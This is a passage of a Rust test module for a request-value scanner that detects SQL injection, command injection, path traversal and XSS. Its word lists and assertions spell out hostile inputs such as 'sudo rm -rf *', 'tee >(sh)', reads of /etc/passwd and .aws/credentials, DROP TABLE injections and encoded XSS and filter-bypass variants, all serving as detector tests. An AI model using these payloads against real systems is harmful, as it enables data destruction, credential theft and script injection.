        let slw = sw.to_lowercase();
        full.is_match(s.as_bytes())
            || full.is_match(v.as_bytes())
            || SHELL_SET.is_match(sv.as_bytes())
            || [w.as_bytes(), lw.as_bytes(), sw.as_bytes(), slw.as_bytes()]
                .iter()
                .any(|x| full.matches(x).iter().any(|i| i >= builtin))
    }

    /// The fast path against the full scan and the separate checks, on one value.
    fn agree(e: &RuleEngine, full: &RegexSet, s: &str) -> Result<(), String> {
        let fast = e.scan_value(s, None);
        let want_match = full_match(full, s);
        if matches!(fast.result, ScanResult::Clean) == want_match {
            return Err(format!("rules differ on {s:?}"));
        }
        if (e.any_match(s) || e.view_match(s)) != want_match {
            return Err(format!("any_match differs on {s:?}"));
        }
        if fast.facts.control != text::has_forbidden_control(s) {
            return Err(format!("control differs on {s:?}"));
        }
        let found: Vec<&str> = crate::ssrf::find_urls(s).collect();
        if !found.is_empty() && !fast.facts.url {
            return Err(format!("URL missed in {s:?}"));
        }
        if let Some(sep) = fast.facts.single_url
            && found != crate::ssrf::url_at(s, sep).into_iter().collect::<Vec<_>>()
        {
            return Err(format!("single URL differs in {s:?}"));
        }
        Ok(())
    }

    static FULL: LazyLock<(RuleEngine, RegexSet, RuleEngine, RegexSet)> = LazyLock::new(|| {
        let blocked = blocked_for_tests();
        let with_blocked =
            RuleEngine::new(&BuiltinRules::default(), &blocked, RuleAction::Reject).unwrap();
        (
            engine(),
            full_scan_set(&[]),
            with_blocked,
            full_scan_set(&blocked),
        )
    });

    #[test]
    fn fast_path_agrees_with_full_scan_on_the_corpus() {
        let (e, full, eb, fullb) = &*FULL;
        for s in corpus() {
            agree(e, full, s).unwrap();
            agree(eb, fullb, s).unwrap();
            // And with the value in the middle of prose, and at the end of a long value.
            let wrapped = format!("some words {s} more words");
            agree(e, full, &wrapped).unwrap();
            let long = format!("{}{s}", "padding ".repeat(5));
            agree(eb, fullb, &long).unwrap();
        }
        for s in [
            "say XYZZY now",
            "id 123-45-6789",
            "TOP \t SECRET",
            "a drop table b",
        ] {
            agree(eb, fullb, s).unwrap();
            assert!(
                !matches!(eb.scan_value(s, None).result, ScanResult::Clean),
                "{s}"
            );
        }
        // The facts of the fast path.
        let v = e.scan_value("see https://example.com/x and \u{1}", None);
        assert!(matches!(v.result, ScanResult::Clean));
        assert_eq!(
            v.facts,
            ValueFacts {
                control: true,
                url: true,
                single_url: Some(9),
                view: false,
            }
        );
        let v = e.scan_value("no url: here\ttab", None);
        assert_eq!(v.facts, ValueFacts::default());
        let v = e.scan_value("a http://x.y/?u=https://z.w b", None);
        assert_eq!(v.facts.single_url, None);
        assert!(v.facts.url);
        let v = e.scan_value("x\u{85}", None);
        assert!(v.facts.control);
        let v = e.scan_value("x\u{a0}", None);
        assert!(!v.facts.control);
    }

    #[test]
    fn start_filter_refuses_harmless_triggers() {
        for (s, p) in [
            ("user's report", 4),
            ("a&page=2", 1),
            ("a | left", 2),
            ("price $5", 6),
            ("2 > 1", 2),
            ("a%20b", 1),
            ("x.y", 1),
        ] {
            assert!(!may_start_at(s.as_bytes(), p), "{s} at {p}");
        }
        for (s, p) in [
            ("x' or 1=1", 1),
            ("x' ) -- ", 1),
            ("a&&b", 1),
            ("a & /bin/sh", 2),
            ("a|LS", 1),
            ("$(", 0),
            ("> /etc", 0),
            ("%2E", 0),
        ] {
            assert!(may_start_at(s.as_bytes(), p), "{s} at {p}");
        }
    }

    /// Both property checks on one string: the start filter hides no match, and the fast
    /// path agrees with the full scan (without and with blocked patterns).
    fn fast_path_sound_and_agrees(s: &str) -> Result<(), String> {
        filter_sound_on(s)?;
        let (e, full, eb, fullb) = &*FULL;
        view_decides_as_full_normalization(e, s)?;
        view_decides_as_full_normalization(eb, s)?;
        agree(e, full, s).and_then(|()| agree(eb, fullb, s))
    }

    /// The view built from the prescan's facts ([`RuleEngine::view_match_after`]) decides
    /// as the full [`text::normalize_for_rules`] does, wherever the view is looked at.
    fn view_decides_as_full_normalization(e: &RuleEngine, s: &str) -> Result<(), String> {
        let b = s.as_bytes();
        let Some(facts) = e.prescan(b) else {
            return Ok(());
        };
        let fast = e.view_match_after(s, facts);
        let full = e.may_differ(b, facts) && e.view_match(s);
        if fast != full {
            return Err(format!("view decision differs on {s:?}: {fast} vs {full}"));
        }
        // Where no byte was flagged, decoding changes nothing, and a value whose
        // characters NFKC keeps is changed only by the separators after a `:`.
        if !facts.view && !text::unicode_view_differs(s) {
            let v = text::normalize_for_rules(s);
            let want = text::collapse_path(s).unwrap_or_else(|| s.to_owned());
            if v != want {
                return Err(format!("view differs on {s:?}: {v:?} vs {want:?}"));
            }
            if memchr::memmem::find(b, b":/").is_none() && v != s {
                return Err(format!("view of {s:?} is not the value: {v:?}"));
            }
        }
        Ok(())
    }

    /// Pieces that make the normalized view differ, or look as if they might: NFKC
    /// changes (fullwidth, compatibility, combining marks), letters NFKC keeps,
    /// invisible and Unicode spaces, percent and entity encodings, separators.
    const VIEW_WORDS: &[&str] = &[
        "a",
        "etc",
        "passwd",
        " ",
        "  ",
        "\t",
        "\u{3000}",
        "\u{a0}",
        "\u{200b}",
        "\u{feff}",
        "\u{ad}",
        "\u{2060}",
        "\u{ff0f}",
        "\u{ff0e}",
        "\u{ff1c}",
        "\u{ff53}\u{ff43}",
        "\u{fb01}",
        "\u{b2}",
        "\u{212a}",
        "\u{2024}",
        "\u{fe52}",
        "e\u{301}",
        "\u{338}",
        "\u{e9}",
        "\u{fc}",
        "\u{f1}",
        "\u{416}",
        "\u{3042}",
        "\u{4e2d}",
        "\u{d55c}",
        "\u{1100}\u{1161}",
        "%2e",
        "%2F",
        "%252e",
        "%u002e",
        "%c0%ae",
        "%",
        "&lt;",
        "&#x2f;",
        "&#47;",
        "&amp;lt;",
        "&",
        "& ",
        "&#",
        "/",
        "//",
        "\\",
        "/./",
        "/.",
        "../",
        "://",
        ":/./",
        ":/",
        "http:",
        "<script>",
        "' or 1=1",
        ";rm -rf",
        "javascript:",
        "DROP",
        "TABLE",
        "top",
        "secret",
    ];

    /// The anchored search matches only where the search tries it: at the start when
    /// [`start_may_match`] holds, at trigger bytes [`may_start_at`] lets through.
    fn filter_sound_on(s: &str) -> Result<(), String> {
        let (e, ..) = &*FULL;
        let Some(anchored) = &e.anchored else {
            return Ok(());
        };
        let b = s.as_bytes();
        for p in 0..b.len() {
            // Where the search tries the anchored patterns: the start when
            // `start_may_match`, and trigger bytes that `may_start_at` lets through.
            let tried = (p == 0 && start_may_match(b))
                || (e.flags[b[p] as usize] & TRIGGER != 0 && may_start_at(b, p));
            if !tried && anchored.matches_at(b, p) {
                return Err(format!("{s:?} at {p}"));
            }
        }
        Ok(())
    }

    #[test]
    fn start_filter_never_hides_a_match_in_the_corpus() {
        for s in corpus() {
            filter_sound_on(s).unwrap();
        }
    }

    #[test]
    fn xss_gate_is_necessary() {
        let e = engine();
        for s in [
            "<script>",
            "javascript:alert(1)",
            "JavaScript \t:x",
            "vbscript\x0b:x",
            "x onload=alert(1)",
            "x ONCLICK =y",
            "srcdoc=x",
            "data:text/html,x",
            "a=b onerror=x",
        ] {
            assert!(e.any_match(s), "{s:?}");
        }
        for s in [
            "https://docs.example.com/a?ref=search&page=2",
            "x conload=1",
            "mydata-x:1",
        ] {
            assert!(!e.any_match(s), "{s:?}");
        }
    }

    /// Words that reach every case of [`may_start_at`]: each trigger byte, what its
    /// patterns need next, and near misses.
    const FILTER_WORDS: &[&str] = &[
        "'",
        "\"",
        ")",
        " ",
        "\t",
        "\u{b}",
        "or",
        "OR",
        "and",
        "xor",
        ";",
        "--",
        "-",
        "/",
        "/*",
        "*/",
        "#",
        "union",
        "UNION",
        "all",
        "select",
        "waitfor delay",
        "sleep",
        "SLEEP(",
        "(",
        "benchmark(",
        "pg_sleep(",
        "dbms_pipe.",
        "load_file(",
        "into outfile",
        "into dumpfile",
        "s",
        "report",
        "&",
        "&&",
        "|",
        "||",
        "`",
        "$",
        "$(",
        "${",
        "}",
        "$IFS",
        "ifs",
        "<",
        ">",
        ">&",
        "2",
        "1",
        "/usr",
        "/bin/",
        "/sbin/",
        "bin/",
        "ls",
        "LS",
        "ps",
        "page",
        "p",
        "python",
        "python3.8",
        "PYTHON2",
        "py",
        "rm",
        "rmx",
        "cat",
        "curl",
        "nc",
        "_",
        "x",
        "%",
        "%2e",
        "%2E",
        "%2f",
        "%20",
        "%252e",
        "%25",
        "%c0%ae",
        "%C0",
        "%e0%80%ae",
        "%u002e",
        "%U002E",
        "%00",
        "%0",
        ".",
        "..",
        "e",
        "etc",
        "etc/",
        "passwd",
        "proc/self/",
        ".ssh/",
        ".aws/credentials",
        ":",
        ":\\",
        "\\",
        "windows\\",
        "<script",
        "=",
        "on",
        "onload",
        "data:",
        "text/html",
        "é",
        "\u{85}",
        "\u{0}",
    ];

    static PLAIN: LazyLock<(RuleEngine, RegexSet)> = LazyLock::new(|| {
        let plain = RegexSet::new(builtin_sources()).unwrap();
        (engine(), plain)
    });

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig { cases: 2000, ..Default::default() })]
        /// The triggered search finds exactly what a plain search of the same patterns
        /// finds: no built-in pattern can start anywhere but at a trigger byte.
        #[test]
        fn triggered_search_equals_plain_search(s in "[a-zA-Z0-9 ;'\"/\\%.:<>=&|`$()*#@{}\n-]{0,40}") {
            let (e, plain) = &*PLAIN;
            proptest::prop_assert_eq!(e.any_match(&s), plain.is_match(s.as_bytes()), "{:?}", s);
        }

        #[test]
        fn triggered_search_equals_plain_search_on_words(
            words in proptest::collection::vec(proptest::sample::select(vec![
                "'", "\"", ";", " ", "or", "and", "1=1", "union", "select", "--", "/*", "*/", "..", "/",
                "\\", "%2e", "%2f", "etc", "passwd", "<", "script", "javascript", ":", "onload", "=",
                "rm", "&&", "|", "$(", ")", "`", "sleep(", "drop table", "data", "text/html", "windows", "x",
                "etc/", "proc/self/", ".ssh/", ".aws/credentials", "e", "p", "%00", "%252e", ":\\\\",
                "srcdoc", "OnClick", "vbscript", "\t", "\u{b}", "_", "on", "DATA",
            ]), 0..12)
        ) {
            let s: String = words.concat();
            let (e, plain) = &*PLAIN;
            proptest::prop_assert_eq!(e.any_match(&s), plain.is_match(s.as_bytes()), "{:?}", s);
        }

        /// The start filter on words chosen to reach each of its cases.
        #[test]
        fn start_filter_never_hides_a_match(
            words in proptest::collection::vec(proptest::sample::select(FILTER_WORDS.to_vec()), 0..10)
        ) {
            let s: String = words.concat();
            fast_path_sound_and_agrees(&s).map_err(proptest::test_runner::TestCaseError::fail)?;
        }

        /// Arbitrary strings (any Unicode, control characters included): the fast path
        /// and the full scan agree, and so do the facts.
        #[test]
        fn fast_path_agrees_with_full_scan_on_any_string(s in proptest::prelude::any::<String>()) {
            fast_path_sound_and_agrees(&s).map_err(proptest::test_runner::TestCaseError::fail)?;
        }

        /// Strings built from the pieces that change the normalized view (and some that
        /// only look as if they might): the view built from the prescan's facts decides as
        /// the full normalization, and the fast path as the full scan.
        #[test]
        fn view_fast_path_agrees_with_full_normalization(
            words in proptest::collection::vec(proptest::sample::select(VIEW_WORDS.to_vec()), 0..14)
        ) {
            let s: String = words.concat();
            fast_path_sound_and_agrees(&s).map_err(proptest::test_runner::TestCaseError::fail)?;
        }

        /// Arbitrary strings over the trigger bytes and their neighbours.
        #[test]
        fn fast_path_agrees_with_full_scan_on_trigger_soup(
            s in "[a-zA-Z0-9 \t\n\x0b\x00\x7f\u{85}\u{a0};'\"/\\%.:<>=&|`$(){}*#@_-]{0,48}"
        ) {
            fast_path_sound_and_agrees(&s).map_err(proptest::test_runner::TestCaseError::fail)?;
        }
    }

    #[test]
    fn bad_config_is_refused_with_key() {
        let bad = [BlockedPattern::Detailed {
            name: None,
            literal: None,
            regex: Some("(".into()),
            action: None,
        }];
        let err = RuleEngine::new(&BuiltinRules::none(), &bad, RuleAction::Reject).unwrap_err();
        assert!(err.to_string().contains("blocked_patterns[0]"));
        let empty = [BlockedPattern::Detailed {
            name: None,
            literal: None,
            regex: Some("a*".into()),
            action: None,
        }];
        assert!(RuleEngine::new(&BuiltinRules::none(), &empty, RuleAction::Reject).is_err());
        let dup = [BlockedPattern::Detailed {
            name: Some("xss".into()),
            literal: Some("x".into()),
            regex: None,
            action: None,
        }];
        assert!(RuleEngine::new(&BuiltinRules::default(), &dup, RuleAction::Reject).is_err());
        assert!(
            RuleEngine::new(
                &BuiltinRules::none(),
                &[BlockedPattern::Literal(String::new())],
                RuleAction::Reject
            )
            .is_err()
        );
    }

    #[test]
    fn strip_follows_the_seeds() {
        let mut b = BuiltinRules::default();
        for c in Category::ALL {
            b.get_mut(c).action = RuleAction::Strip;
        }
        let e = RuleEngine::new(&b, &[], RuleAction::Reject).unwrap();
        assert_eq!(
            e.strip("'; DROP TABLE users; --", None).unwrap(),
            " DROP TABLE users "
        );
        assert_eq!(e.strip("ls; rm -rf /tmp", None).unwrap(), "ls rm -rf /tmp");
        assert_eq!(
            e.strip("<script>alert(1)</script>hi", None).unwrap(),
            "alert(1)hi"
        );
        assert_eq!(e.strip("../../etc/x", None).unwrap(), "etc/x");
        assert_eq!(e.strip("<scr<script>ipt>x", None).unwrap(), "x");
        assert_eq!(e.strip("plain", None).unwrap(), "plain");
    }

    /// The bypasses of the adversarial review and more variants of each class: each must
    /// be refused by the built-in rules (or the blocked pattern `DROP TABLE`) through the
    /// normalized view, while the value itself is what would be forwarded.
    #[test]
    fn normalized_variants_of_each_class_are_caught() {
        let blocked = [BlockedPattern::Literal("DROP TABLE".into())];
        let e = RuleEngine::new(&BuiltinRules::default(), &blocked, RuleAction::Reject).unwrap();
        let rule_of = |s: &str| match e.scan_value(s, None).result {
            ScanResult::Reject(r) => Some(e.rules[r].name.to_string()),
            _ => None,
        };
        for (s, want) in [
            ("DROP\tTABLE users", "blocked_pattern[0]"),
            ("drop \n\t table users", "blocked_pattern[0]"),
            ("DROP\u{a0}TABLE", "blocked_pattern[0]"),
            ("DROP\u{200b} TABLE", "blocked_pattern[0]"),
            (
                "\u{ff24}\u{ff32}\u{ff2f}\u{ff30} \u{ff34}\u{ff21}\u{ff22}\u{ff2c}\u{ff25}",
                "blocked_pattern[0]",
            ),
            ("DROP%20TABLE", "blocked_pattern[0]"),
            ("example.com\nid", "command_injection"),
            ("example.com\r\n  whoami", "command_injection"),
            ("x | id", "command_injection"),
            ("x|id", "command_injection"),
            ("x & id", "command_injection"),
            ("a; env", "command_injection"),
            ("rm -fr /", "command_injection"),
            ("rm -r -f /", "command_injection"),
            ("rm --recursive --force /", "command_injection"),
            ("RM -Rf ~", "command_injection"),
            ("sudo rm -rf *", "command_injection"),
            ("diff <(curl -s x) y", "command_injection"),
            ("tee >(sh)", "command_injection"),
            ("x\u{ff1b} id", "command_injection"),
            ("x%3B%20id", "command_injection"),
            ("/etc//passwd", "path_traversal"),
            ("/etc/./shadow", "path_traversal"),
            ("/proc//self/environ", "path_traversal"),
            ("\\etc\\\\shadow", "path_traversal"),
            ("%2e%2e%2f", "path_traversal"),
            ("..%252f", "path_traversal"),
            ("\u{ff0f}etc\u{ff0f}passwd", "path_traversal"),
            ("%2fetc%2fpasswd", "path_traversal"),
            ("/etc/%2e/passwd", "path_traversal"),
            ("javascript&colon;alert(1)", "xss"),
            ("java&#x09;script:alert(1)", "xss"),
            ("java&#9script:alert(1)", "xss"),
            ("&#106;avascript:alert(1)", "xss"),
            ("java\tscript:alert(1)", "xss"),
            ("<a onpointerrawupdate=alert(1)>", "xss"),
            ("<x onanyfutureevent = alert(1)>", "xss"),
            ("\" onbeforetoggle=\"alert(1)", "xss"),
            ("<svg/onload=alert(1)>", "xss"),
            ("&lt;script&gt;", "xss"),
            ("%3Cscript%3E", "xss"),
            ("x'\u{a0}OR\u{a0}'1'='1", "sql_injection"),
            ("x&#39; OR &#39;1&#39;=&#39;1", "sql_injection"),
        ] {
            assert_eq!(rule_of(s).as_deref(), Some(want), "{s:?}");
        }
        for s in [
            "| id | name |",
            "| cat | 3 |",
            "Tom &amp; Jerry",
            "set online=true; once=1",
            "src//lib.rs",
            "https://example.com/a/./b?x=1&y=2",
            "caf\u{e9} \u{ff21}\u{ff22}",
            "The rm command removes files",
            "rm -i old.txt",
            "PS: see you\nNode.js is fine",
        ] {
            assert_eq!(rule_of(s), None, "{s:?}");
        }
    }

    /// The fast path: an ASCII value without a byte that may change the view is not
    /// normalized (so not copied); the others are.
    #[test]
    fn plain_ascii_values_skip_the_view() {
        let plain = engine();
        let blocked = RuleEngine::new(
            &BuiltinRules::default(),
            &[BlockedPattern::Literal("DROP TABLE".into())],
            RuleAction::Reject,
        )
        .unwrap();
        let differ = |e: &RuleEngine, s: &str| {
            let facts = e.prescan(s.as_bytes()).unwrap();
            e.may_differ(s.as_bytes(), facts)
        };
        for s in [
            "hello from wrk",
            "https://example.com/path/to/page?query=1",
            "550e8400-e29b-41d4-a716-446655440000",
            "a long value with many words, numbers 1 2 3, and punctuation: yes.",
            "tabs\tand\nnewlines without blocked patterns",
        ] {
            assert!(!differ(&plain, s), "{s:?}");
        }
        for s in ["a%20b", "Tom &amp; Jerry", "/etc//x", "/a/./b", "caf\u{e9}"] {
            assert!(differ(&plain, s), "{s:?}");
        }
        assert!(!differ(&blocked, "one space between words"));
        for s in ["DROP\tTABLE", "DROP  TABLE", "DROP\nTABLE"] {
            assert!(differ(&blocked, s), "{s:?}");
        }
    }
}
